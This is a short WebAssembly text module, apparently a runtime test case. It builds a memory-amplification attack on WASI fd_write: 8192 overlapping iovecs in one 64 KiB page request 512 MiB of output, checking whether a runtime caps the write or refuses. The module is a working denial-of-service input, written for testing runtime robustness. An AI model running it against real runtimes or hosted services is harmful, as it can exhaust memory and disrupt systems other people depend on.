;; Attack: fd_write gather amplification with one page of memory.
;;
;; The only page holds 8192 ciovecs (8192 * 8 bytes = 64 KiB), each claiming the whole
;; page (buf 0, len 65536), so one fd_write to stdout asks for 8192 * 64 KiB = 512 MiB of
;; data although the guest owns 64 KiB. A runtime that concatenates the iovecs into one
;; host buffer before writing allocates 512 MiB per call; it should stop at its I/O cap
;; (a short write is always allowed) or refuse.
;;
;; `run` returns fd_write's errno (0 on success); the CLI prints it as the last line on
;; stdout, after whatever the call wrote there.
(module
  (import "wasi_snapshot_preview1" "fd_write"
    (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 1)
  (func (export "run") (result i32)
    (local $i i32)
    (loop $fill
      (i32.store (i32.mul (local.get $i) (i32.const 8)) (i32.const 0))
      (i32.store offset=4 (i32.mul (local.get $i) (i32.const 8)) (i32.const 65536))
      (local.set $i (i32.add (local.get $i) (i32.const 1)))
      (br_if $fill (i32.lt_u (local.get $i) (i32.const 8192))))
    ;; nwritten lands on the first iovec's buf field, after the call has read it.
    (call $fd_write (i32.const 1) (i32.const 0) (i32.const 8192) (i32.const 0))))
